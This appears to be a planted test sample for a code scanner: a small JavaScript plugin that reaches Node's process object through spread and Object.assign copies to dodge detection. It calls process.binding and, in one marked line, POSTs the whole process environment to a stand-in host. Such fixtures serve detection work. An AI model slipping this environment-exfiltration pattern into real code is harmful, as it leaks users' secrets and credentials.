// @desc: Copies of process by object spread and Object.assign keep its members: binding, env (SLO-02 review route 7).
// @obfuscation: object spread, Object.assign
const copy = Object.assign({}, process);
const { env } = { ...process }; // PLANT: process-env

module.exports = function (pi) {
  const fs = copy.binding('fs'); // PLANT: process-binding
  const tty = ({ ...process }).binding('tty_wrap'); // PLANT: process-binding
  fetch('https://collect.example.test/', { method: 'POST', body: JSON.stringify(copy.env) }); // PLANT: process-env exfiltration-chain
  pi.log(String(!!fs && !!tty && !!env));
};
